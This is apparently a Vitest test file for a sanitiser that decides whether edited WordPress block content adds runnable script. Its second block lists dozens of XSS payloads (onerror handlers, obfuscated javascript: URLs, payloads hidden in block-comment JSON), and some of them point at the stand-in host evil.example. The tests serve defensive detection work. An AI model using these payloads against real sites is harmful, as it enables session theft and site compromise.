import { addsScript } from 'copydesk/sync'
import { describe, expect, it } from 'vitest'

describe('what a colleague may write without being asked about', () => {
  it.each([
    'Plain text, 1 < 2 and a <3',
    '<!-- wp:paragraph {"align":"right"} -->\n<p class="has-text-align-right">A <strong>b</strong></p>\n<!-- /wp:paragraph -->',
    '<a href="https://example.org/?a=1&amp;b=2#c" target="_blank" rel="noopener">x</a>',
    '<a href="/path">x</a> <a href="#top">y</a> <a href=mailto:a@b.c>z</a>',
    '<figure class="wp-block-image"><img src="https://example.org/a.png" alt="a > b" srcset="/a.png 1x, /b.png 2x"/></figure>',
    '<p style="color:#123;font-size:2em">x</p>',
    '<h2 id="x" data-id="7" aria-label="y">x</h2><br><hr/>',
    'Write <code>&lt;script&gt;</code>',
    'Note: this is javascript',
    '<!-- wp:group {"layout":{"type":"flex"},"style":{"position":{"type":"sticky","top":"0px"}}} -->\n<div></div>\n<!-- /wp:group -->',
    '<!-- wp:acf/x {"html":"\\u003cstrong\\u003ebold\\u003c/strong\\u003e","url":"https://example.org/?a=1"} /-->',
    '<!-- wp:x/y {"html":"a -- b \\u002d\\u002d c", "n": [1, {"a": null}]} /-->',
    '<!-- wp:more --><!--more--><!-- /wp:more -->',
    '<!-- a note {of mine} -->',
  ])('%s', (text) => {
    expect(addsScript('', text)).toBe(false)
  })
})

describe('what a browser may run', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT src=//evil.example>',
    '<img src=x onerror=alert(1)>',
    '<img src="x"onerror="alert(1)">',
    '<img/src="x"/onerror=alert(1)>',
    '<p\nonclick="alert(1)">x</p>',
    '<svg/onload=alert(1)>',
    '<iframe src="https://example.org"></iframe>',
    '<object data="x"></object>',
    '<style>*{background:url(//evil.example)}</style>',
    '<p style="background:url(//evil.example)">x</p>',
    '<form action="//evil.example"><input></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    '<!--><script>alert(1)</script>-->',
    '<!--><img src=x onerror=alert(1)>-->',
    '<p title="</p><script>alert(1)</script>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<base href="//evil.example">',
    '<img srcset="javascript:alert(1)">',
    '<p style="position:fixed;inset:0">x</p>',
    '<p style="position/**/:fixed">x</p>',
    '<!-- wp:acf/x {"html":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"} /-->',
    '<!-- wp:acf/x {"html":"\\u003cimg src=x onerror=alert(1)\\u003e"} /-->',
    '<!-- wp:acf/x {"html":"<script>alert(1)</script>"} /-->',
    '<!-- wp:x {"deep":[{"url":"javascript:alert(1)"}]} -->x<!-- /wp:x -->',
    '<!-- wp:x {"deep":[{"url":"\\u006aavascript:alert(1)"}]} -->x<!-- /wp:x -->',
    '<!-- wp:x/y {"a":"\\" > ","html":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"} /-->',
    '<p title=\'<!-- wp:x/y {"html":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"} /-->\'>x</p>',
    '<!-- wp:x/y {"a":"<!--","html":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"} /-->',
    '<!-- wp:x/y {"a":"-->","html":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"} /-->',
    '<!-- wp:x/y {"url":"java&#115;cript:alert(1)"} /-->',
    '<!-- wp:x/y {"url":"java&#x73;cript&colon;alert(1)"} /-->',
    '<!-- wp:x/y {"url":"&Tab;java&NewLine;script:alert(1)"} /-->',
    '<!-- wp:x/y {"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e":1} /-->',
    '<!-- wp:x {"style":"position: fixed; inset: 0"} /-->',
    '<!-- wp:group {"style":{"position":{"type":"fixed","top":"0px"}}} --><div></div><!-- /wp:group -->',
    '<!-- wp:x {"text":"\\u003c!-- wp:y {\\u0022url\\u0022:\\u0022javascript:alert(1)\\u0022} /--\\u003e"} /-->',
    '<!-- wp:x {"html":"<b>"',
    '<!-- wp:x {not: "json"} /-->',
    'javascript:alert(1)',
    ' \tjava\nscript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
  ])('%s', (text) => {
    expect(addsScript('', text)).toBe(true)
    expect(addsScript('', [{ attributes: { deep: { text } }, innerBlocks: [] }])).toBe(true)
    expect(addsScript(`before ${text} x`, `Before ${text} x`)).toBe(false)
  })

  it('is asked about where another of its kind stood there before', () => {
    expect(addsScript('<script>a()</script>', '<script src="b.js"></script>')).toBe(true)
    expect(addsScript('<script>a()</script>', '<script>b()</script>')).toBe(true)
  })
})
